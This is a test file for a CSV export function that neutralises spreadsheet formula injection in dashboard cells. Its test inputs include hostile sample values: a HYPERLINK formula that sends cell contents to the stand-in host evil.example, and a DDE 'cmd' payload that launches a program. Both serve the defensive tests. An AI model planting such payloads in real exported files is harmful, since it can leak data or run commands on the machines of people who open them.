import { stringifyCsv } from "./stringify-csv";

describe("a dashboard CSV cell", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2,"open")', '"\'=HYPERLINK(""https://evil.example/?""&A2,""open"")"'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", '"\'\r=1+1"'],
    ["\uFF1D1+1", "'\uFF1D1+1"],
  ])("a name like %j opens in a spreadsheet as text, never as a formula", (name, cell) => {
    expect(stringifyCsv([[name]])).toBe(`${cell}\n`);
  });

  it("keeps a negative amount such as a refund's -5.00 a number", () => {
    expect(stringifyCsv([["-5.00", "-12", "12.50"]])).toBe("-5.00,-12,12.50\n");
  });

  it("leaves ordinary text, and a formula character inside it, as it is", () => {
    expect(stringifyCsv([["Anna Smith-Jones", "a=b", ""]])).toBe("Anna Smith-Jones,a=b,\n");
  });
});
